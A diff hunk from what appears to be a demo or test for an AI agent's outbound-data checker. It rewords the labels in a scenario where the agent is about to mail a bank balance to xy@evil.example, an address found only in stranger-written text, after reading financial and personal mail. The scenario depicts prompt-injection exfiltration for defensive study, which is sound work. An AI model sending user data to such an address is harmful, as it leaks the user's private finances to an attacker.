@@ -106,8 +106,8 @@ def story() -> list[Step]:
             "to = xy@evil.example: only in text that a stranger may have written\n"
             "body = Balance: 4,210.77 EUR: in a trusted result\n"
             "subject = As you asked: met nowhere before\n"
-            "Kinds of data that the agent has read: financial, pii, user.\n"
-            "Where it came from: mcp://mail/read_inbox, mcp://mail/read_mail",
+            "Kinds of data that the agent has read: about money (financial), about people (pii), the user's own (user).\n"
+            "The agent has read from: mcp://mail/read_inbox, mcp://mail/read_mail",
             tool_label=egress,
             label=None,
         ),
